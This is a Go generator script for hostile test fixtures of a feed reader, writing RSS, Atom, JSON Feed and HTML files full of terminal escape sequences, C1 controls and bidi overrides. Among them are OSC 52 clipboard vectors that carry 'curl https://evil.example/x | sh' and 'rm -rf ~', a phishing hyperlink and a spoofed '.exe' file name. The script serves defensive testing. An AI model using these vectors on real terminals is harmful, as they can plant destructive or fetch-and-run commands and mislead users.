//go:build ignore

// gen writes the hostile fixture feeds in this folder. Run it from the module
// root with: go run testdata/hostile/gen.go
//
// The fixtures carry terminal escape sequences and other control characters
// in every field a feed can set; README.md lists the vectors and which files
// parse. The files are generated because most vectors are raw bytes that an
// editor would mangle or hide.
package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"strings"
)

const esc = "\x1b"

// Vectors, each named for README.md.
var (
	csiColour  = esc + "[31;1;5m" + "RED ALERT" + esc + "[0m"
	csiCursor  = esc + "[2J" + esc + "[H" + esc + "[10A" + esc + "[5;5H" + esc + "[?25l"
	osc0Title  = esc + "]0;window title set by a feed\x07"
	osc2Title  = esc + "]2;icon title set by a feed" + esc + `\`
	osc8Link   = esc + "]8;;https://evil.example/phish" + esc + `\` + "innocent link text" + esc + "]8;;" + esc + `\`
	osc52Copy  = esc + "]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl https://evil.example/x | sh\n")) + "\x07"
	dcsQuery   = esc + "P+q544e" + esc + `\` // XTGETTCAP: makes some terminals answer on stdin
	apcGraphic = esc + "_Gf=100,a=T;iVBORw0KGgo=" + esc + `\`
	pmPrivacy  = esc + "^private message" + esc + `\`
	sosString  = esc + "Xstart of string" + esc + `\`
	c1CSI      = "\u009b31mC1 red\u009b0m"
	c1OSC      = "\u009d0;C1 title\u009c"
	bell       = "ding\x07\x07\x07"
	overstrike = "safe\b\b\b\bevil"
	nul        = "nul\x00byte"
	bidiRLO    = "invoice\u202Efdp.exe\u202C"
	bidiLRO    = "\u202Dforced LTR\u202C \u202Aembed\u202C \u202Bembed\u202C"
	bidiIsol   = "\u2066LRI\u2069 \u2067RLI\u2069 \u2068FSI\u2069 unbalanced\u2067"
)

// all is every vector in one string, in the order README.md lists them,
// except NUL: a raw NUL byte changes how herald pre-processes an XML body
// (see rssNUL), so it gets its own file; the JSON feed carries it too.
func all() string {
	return strings.Join([]string{csiColour, csiCursor, osc0Title, osc2Title, osc8Link, osc52Copy,
		dcsQuery, apcGraphic, pmPrivacy, sosString, c1CSI, c1OSC, bell, overstrike,
		bidiRLO, bidiLRO, bidiIsol}, " | ")
}

// Entity forms: the bytes a feed writes so that the escape only appears after
// HTML decoding (what herald's HTML-to-text step does to descriptions).
const (
	entESC  = "&#27;"
	entESCx = "&#x1b;"
)

func entityVectors() string {
	return entESC + "[31mred via &amp;#27;" + entESCx + "[0m " +
		entESCx + "]0;title via entity&#7; " +
		entESC + "]52;c;" + base64.StdEncoding.EncodeToString([]byte("rm -rf ~")) + "&#x07; " +
		entESC + "]8;;https://evil.example/" + entESC + "\\entity link" + entESC + "]8;;" + entESC + "\\ " +
		"&#x9b;31m &#155;0m &#157;0;c1&#156; &#x202e;gnp.exe &#8238;reversed"
}

// xmlText escapes s for an XML text node or attribute, leaving control bytes
// raw (gofeed drops raw C0 bytes before its XML decoder sees them).
func xmlText(s string) string {
	r := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", `"`, "&quot;")
	return r.Replace(s)
}

func rssRaw() string {
	v := xmlText(all())
	return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:media="http://search.yahoo.com/mrss/" xmlns:itunes="http://www.itunes.com/dtds/podcast-1.0.dtd">
<channel>
<title>Hostile feed ` + v + `</title>
<link>https://example.org/hostile/` + xmlText(csiColour) + `</link>
<description>Every field of this feed carries terminal escape sequences.</description>
<itunes:author>` + v + `</itunes:author>
<item>
<title>Title vectors: ` + v + `</title>
<link>https://example.org/hostile/1?x=` + xmlText(osc8Link) + `</link>
<guid isPermaLink="false">hostile-1-` + xmlText(osc52Copy) + `</guid>
<author>evil@example.org (` + v + `)</author>
<dc:creator>` + v + `</dc:creator>
<pubDate>Mon, 17 Nov 2025 09:00:00 GMT</pubDate>
<description><![CDATA[<p>Raw vectors in CDATA: ` + all() + `</p><p>Entity vectors decoded by HTML parsing: ` + entityVectors() + `</p>]]></description>
<enclosure url="https://example.org/hostile/` + xmlText(osc0Title+bidiRLO) + `.mp3" length="1234" type="audio/mpeg"/>
<media:content url="https://example.org/hostile/` + xmlText(csiCursor) + `.jpg" medium="image"><media:title>` + v + `</media:title></media:content>
</item>
<item>
<title>` + xmlText(osc0Title) + `Second item, escaped description</title>
<link>https://example.org/hostile/2</link>
<guid>https://example.org/hostile/2</guid>
<author>` + xmlText(bidiRLO) + `</author>
<pubDate>Tue, 18 Nov 2025 10:00:00 GMT</pubDate>
<description>&lt;p&gt;` + xmlText(all()) + `&lt;/p&gt;&lt;p&gt;` + strings.ReplaceAll(entityVectors(), "&", "&amp;") + `&lt;/p&gt;</description>
</item>
<item>
<title>Double-escaped title &amp;#27;[31m &amp;#x1b;]0;pwn&amp;#7; done</title>
<link>https://example.org/hostile/3</link>
<description>Plain text ` + v + `</description>
<pubDate>Wed, 19 Nov 2025 11:00:00 GMT</pubDate>
</item>
</channel>
</rss>
`
}

// rssNUL is rssRaw's vectors plus one raw NUL byte, which a reader may
// mistake for a sign of UTF-16 and then skip its escape handling.
func rssNUL() string {
	return strings.Replace(rssRaw(), "<title>Title vectors: ", "<title>"+xmlText(nul)+"Title vectors: ", 1)
}

// rssCharRef uses XML character references for C0 controls, which XML 1.0
// forbids: Go's XML decoder rejects the whole document.
func rssCharRef() string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>Character references &#27;[31m feed</title>
<link>https://example.org/hostile-charref/</link>
<description>C0 controls as XML character references.</description>
<item>
<title>&#27;]0;pwned&#7; item</title>
<link>https://example.org/hostile-charref/1</link>
<description>&#x1b;[2J&#x1b;[H cleared</description>
</item>
</channel>
</rss>
`
}

// rssC1Ref uses character references for C1 controls and bidi overrides,
// which XML 1.0 allows.
func rssC1Ref() string {
	return `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0">
<channel>
<title>C1 references &#x9d;0;c1 title&#x9c; feed</title>
<link>https://example.org/hostile-c1/</link>
<description>C1 controls and bidi overrides as XML character references.</description>
<item>
<title>&#155;31mred&#155;0m &#157;0;title&#156; &#x202E;gnp.exe&#x202C; &#x2067;isolate</title>
<link>https://example.org/hostile-c1/1</link>
<author>a@example.org (&#x9d;52;c;Y3VybA==&#x9c;)</author>
<description>&#x9b;2J&#x9b;H cleared &#x202E;reversed</description>
</item>
</channel>
</rss>
`
}

func atomRaw() string {
	v := xmlText(all())
	return `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom">
<title>Hostile Atom ` + v + `</title>
<id>urn:hostile:atom</id>
<updated>2025-11-20T12:00:00Z</updated>
<link href="https://example.org/hostile-atom/` + xmlText(osc8Link) + `"/>
<author><name>` + v + `</name><email>evil@example.org` + xmlText(bell) + `</email><uri>https://example.org/` + xmlText(csiCursor) + `</uri></author>
<entry>
<title type="text">Atom text title ` + v + `</title>
<id>urn:hostile:atom:1` + xmlText(osc52Copy) + `</id>
<updated>2025-11-20T12:00:00Z</updated>
<published>2025-11-20T11:00:00Z</published>
<link rel="alternate" href="https://example.org/hostile-atom/1` + xmlText(c1OSC) + `"/>
<link rel="enclosure" href="https://example.org/hostile-atom/` + xmlText(osc0Title) + `.ogg" title="` + v + `" type="audio/ogg" length="99"/>
<author><name>` + xmlText(bidiRLO) + `</name></author>
<summary type="text">` + v + `</summary>
<content type="html">&lt;p&gt;` + xmlText(all()) + `&lt;/p&gt;&lt;p&gt;` + strings.ReplaceAll(entityVectors(), "&", "&amp;") + `&lt;/p&gt;</content>
</entry>
<entry>
<title type="html">HTML title &amp;#27;[31mred&amp;#27;[0m &lt;b&gt;bold&lt;/b&gt; ` + v + `</title>
<id>urn:hostile:atom:2</id>
<updated>2025-11-21T12:00:00Z</updated>
<link href="https://example.org/hostile-atom/2"/>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>XHTML content ` + v + `</p></div></content>
</entry>
</feed>
`
}

func jsonFeed() string {
	v := all()
	html := "<p>" + v + "</p><p>" + entityVectors() + "</p>"
	feed := map[string]any{
		"version":       "https://jsonfeed.org/version/1.1",
		"title":         "Hostile JSON " + v,
		"home_page_url": "https://example.org/hostile-json/" + osc8Link,
		"description":   v,
		"authors":       []any{map[string]any{"name": v, "url": "https://example.org/" + csiCursor}},
		"items": []any{
			map[string]any{
				"id":             "hostile-json-1" + osc52Copy,
				"url":            "https://example.org/hostile-json/1" + osc0Title,
				"external_url":   "https://example.org/" + bidiRLO,
				"title":          "JSON title " + v,
				"content_html":   html,
				"summary":        v,
				"date_published": "2025-11-22T08:00:00Z",
				"authors":        []any{map[string]any{"name": bidiRLO + " " + csiColour}},
				"tags":           []any{v},
				"attachments": []any{map[string]any{
					"url": "https://example.org/hostile-json/" + osc2Title + ".mp3", "mime_type": "audio/mpeg",
					"title": v, "size_in_bytes": 1,
				}},
			},
			map[string]any{
				"id":             "hostile-json-2",
				"url":            "https://example.org/hostile-json/2",
				"title":          osc0Title + "Second JSON item",
				"content_text":   v + "\n\nSecond paragraph " + nul,
				"date_published": "2025-11-23T08:00:00Z",
				"author":         map[string]any{"name": csiColour}, // JSON Feed 1.0 style
			},
		},
	}
	b, err := json.MarshalIndent(feed, "", "  ")
	if err != nil {
		log.Fatal(err)
	}
	// encoding/json writes control characters as \u001b; keep them that way,
	// but undo its HTML-safe escaping of < > & so content_html reads naturally.
	s := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(string(b))
	return s + "\n"
}

// page is an article web page, for the full-text fetch and `herald extract`,
// with raw and entity-encoded vectors in its title, byline and paragraphs.
func page() string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE html>
<html lang="en"><head><meta charset="utf-8">
<title>Hostile page ` + xmlText(all()) + `</title>
<meta name="author" content="` + xmlText(osc52Copy) + `Eve">
</head><body>
<header><nav><a href="/">Home</a></nav></header>
<article>
<h1>Hostile article ` + xmlText(csiColour) + `</h1>
<p class="byline">By ` + xmlText(bidiRLO) + ` Eve Example</p>
`)
	for i, v := range []string{csiColour, csiCursor, osc0Title, osc2Title, osc8Link, osc52Copy, dcsQuery, apcGraphic,
		pmPrivacy, sosString, c1CSI, c1OSC, bell, overstrike, bidiRLO, bidiLRO, bidiIsol, entityVectors()} {
		text := xmlText(v)
		if i == 17 {
			text = v // entity forms stay entities, decoded by the HTML parser
		}
		fmt.Fprintf(&b, "<p>Paragraph %d of the hostile article, long enough for an extractor to keep it as body text, carries a vector here: %s and then goes on with ordinary readable words about a summit.</p>\n", i+1, text)
	}
	b.WriteString("</article>\n<footer>Footer</footer></body></html>\n")
	return b.String()
}

func main() {
	dir := filepath.Join("testdata", "hostile")
	files := map[string]string{
		"hostile.xml":         rssRaw(),
		"hostile-nul.xml":     rssNUL(),
		"hostile-charref.xml": rssCharRef(),
		"hostile-c1ref.xml":   rssC1Ref(),
		"hostile.atom":        atomRaw(),
		"hostile.json":        jsonFeed(),
		"hostile-page.html":   page(),
	}
	for name, body := range files {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			log.Fatal(err)
		}
		fmt.Println("wrote", name, len(body), "bytes")
	}
}
